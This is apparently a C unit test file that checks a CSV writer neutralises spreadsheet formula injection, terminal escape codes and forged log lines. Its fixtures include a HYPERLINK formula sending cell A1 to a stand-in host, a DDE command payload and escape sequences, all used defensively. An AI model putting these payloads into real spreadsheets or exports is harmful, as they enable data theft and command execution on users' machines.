/* SPDX-License-Identifier: Apache-2.0 */
/*
 * core/sheet.c: what a spreadsheet would evaluate is written as text, numbers
 * stay numbers, and libcsv reads back exactly the cells that went in (after
 * the guard's apostrophe), but for control characters, shown as pictures.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>
#include <csv.h>

#include "core/error.h"
#include "core/sheet.h"

static const char *const hostile[] = {
    "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "=",
};

static void
test_formula_starts_are_guarded_and_numbers_are_not(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof hostile / sizeof hostile[0]; i++)
		assert_true(fc_sheet_needs_guard(hostile[i]));
	assert_true(fc_sheet_is_number("-12"));
	assert_true(fc_sheet_is_number("3.25"));
	assert_true(fc_sheet_is_number("0"));
	assert_false(fc_sheet_is_number("-"));
	assert_false(fc_sheet_is_number("1."));
	assert_false(fc_sheet_is_number("+1"));
	assert_false(fc_sheet_is_number("1e5"));
	assert_false(fc_sheet_needs_guard("-12"));
	assert_false(fc_sheet_needs_guard("-0.5"));
	assert_false(fc_sheet_needs_guard("新华路1号"));
	assert_false(fc_sheet_needs_guard(""));
	assert_false(fc_sheet_needs_guard("a=b"));
}

struct readback {
	char cells[32][128];
	size_t n;
	int rows;
};

static void
readback_field(void *s, size_t len, void *ctx)
{
	struct readback *rb = ctx;

	assert_true(rb->n < 32 && len < 128);
	memcpy(rb->cells[rb->n], s, len);
	rb->cells[rb->n][len] = '\0';
	rb->n++;
}

static void
readback_row(int c, void *ctx)
{
	struct readback *rb = ctx;

	(void)c;
	rb->rows++;
}

static void
test_a_row_reads_back_with_every_formula_cell_neutralised(void **state)
{
	const char *cells[sizeof hostile / sizeof hostile[0] + 3];
	size_t n = 0;
	struct fc_error err = {0};
	struct readback rb = {0};
	struct csv_parser p;
	char *text = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&text, &len);

	(void)state;
	for (size_t i = 0; i < sizeof hostile / sizeof hostile[0]; i++)
		cells[n++] = hostile[i];
	cells[n++] = "-7.5";
	cells[n++] = "say \"hi\", then\nleave";
	cells[n++] = "";
	assert_non_null(f);
	assert_int_equal(fc_sheet_csv_row(f, cells, n, &err), 0);
	fclose(f);
	/* A number is written bare: a spreadsheet reads it as a number. */
	assert_non_null(strstr(text, ",-7.5,"));
	assert_int_equal(csv_init(&p, CSV_STRICT | CSV_APPEND_NULL), 0);
	assert_int_equal(csv_parse(&p, text, len, readback_field, readback_row, &rb), len);
	csv_fini(&p, readback_field, readback_row, &rb);
	csv_free(&p);
	assert_int_equal(rb.rows, 1);
	assert_int_equal(rb.n, n);
	for (size_t i = 0; i < sizeof hostile / sizeof hostile[0]; i++) {
		assert_int_equal(rb.cells[i][0], '\'');
		/* The carriage return is shown as its picture, like every control. */
		assert_string_equal(rb.cells[i] + 1,
				    hostile[i][0] == '\r' ? "\xe2\x90\x8d=1+1" : hostile[i]);
	}
	assert_string_equal(rb.cells[n - 3], "-7.5");
	assert_string_equal(rb.cells[n - 2], "say \"hi\", then\nleave");
	assert_string_equal(rb.cells[n - 1], "");
	free(text);
}

/* Write cells with fn and read them back with libcsv: rows into *rows. */
static void
readback(int (*fn)(FILE *, const char *const *, size_t, struct fc_error *),
	 const char *const *cells, size_t n, struct readback *rb, char **text)
{
	struct fc_error err = {0};
	struct csv_parser p;
	size_t len = 0;
	FILE *f = open_memstream(text, &len);

	assert_non_null(f);
	assert_int_equal(fn(f, cells, n, &err), 0);
	fclose(f);
	assert_int_equal(csv_init(&p, CSV_STRICT | CSV_APPEND_NULL), 0);
	assert_int_equal(csv_parse(&p, *text, len, readback_field, readback_row, rb), len);
	csv_fini(&p, readback_field, readback_row, rb);
	csv_free(&p);
}

static void
test_control_characters_are_shown_as_pictures_never_written(void **state)
{
	const char *cells[] = {"x\x1b[2J\x07y", "a\r\nb",  "tab\there",	      "del\x7f",
			       "c1\xc2\x9b[2J", "bad\xff", "\x1b]0;owned\x07"};
	struct readback rb = {0};
	char *text = NULL;

	(void)state;
	readback(fc_sheet_csv_row, cells, 7, &rb, &text);
	for (const char *p = text; *p != '\0'; p++)
		assert_false((unsigned char)*p < 0x20 && *p != '\t' && *p != '\r' && *p != '\n');
	assert_null(strchr(text, 0x1b));
	assert_int_equal(rb.rows, 1);
	assert_string_equal(rb.cells[0], "x\xe2\x90\x9b[2J\xe2\x90\x87y"); /* x␛[2J␇y */
	assert_string_equal(rb.cells[1], "a\xe2\x90\x8d\nb"); /* a␍, a line feed, b */
	assert_string_equal(rb.cells[2], "tab\there");
	assert_string_equal(rb.cells[3], "del\xe2\x90\xa1");
	assert_string_equal(rb.cells[4], "c1\xef\xbf\xbd[2J");
	assert_string_equal(rb.cells[5], "bad\xef\xbf\xbd");
	/* Its first byte is a control, not a formula character: no apostrophe. */
	assert_string_equal(rb.cells[6], "\xe2\x90\x9b]0;owned\xe2\x90\x87");
	free(text);
}

static void
test_a_log_line_stays_one_line_whatever_its_cells_hold(void **state)
{
	const char *cells[] = {"2026-01-01T00:00:00Z", "evil\r\n2026-01-02T00:00:00Z,root", "=cmd",
			       "one\ntwo"};
	struct readback rb = {0};
	char *text = NULL;

	(void)state;
	readback(fc_sheet_csv_line, cells, 4, &rb, &text);
	/* Its only line end is the row's own. */
	assert_int_equal(strcspn(text, "\r\n"), strlen(text) - 2);
	assert_int_equal(rb.rows, 1);
	assert_string_equal(rb.cells[1], "evil\xe2\x90\x8d\xe2\x90\x8a"
					 "2026-01-02T00:00:00Z,root");
	assert_string_equal(rb.cells[2], "'=cmd");
	assert_string_equal(rb.cells[3], "one\xe2\x90\x8atwo");
	free(text);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_formula_starts_are_guarded_and_numbers_are_not),
	    cmocka_unit_test(test_a_row_reads_back_with_every_formula_cell_neutralised),
	    cmocka_unit_test(test_control_characters_are_shown_as_pictures_never_written),
	    cmocka_unit_test(test_a_log_line_stays_one_line_whatever_its_cells_hold),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
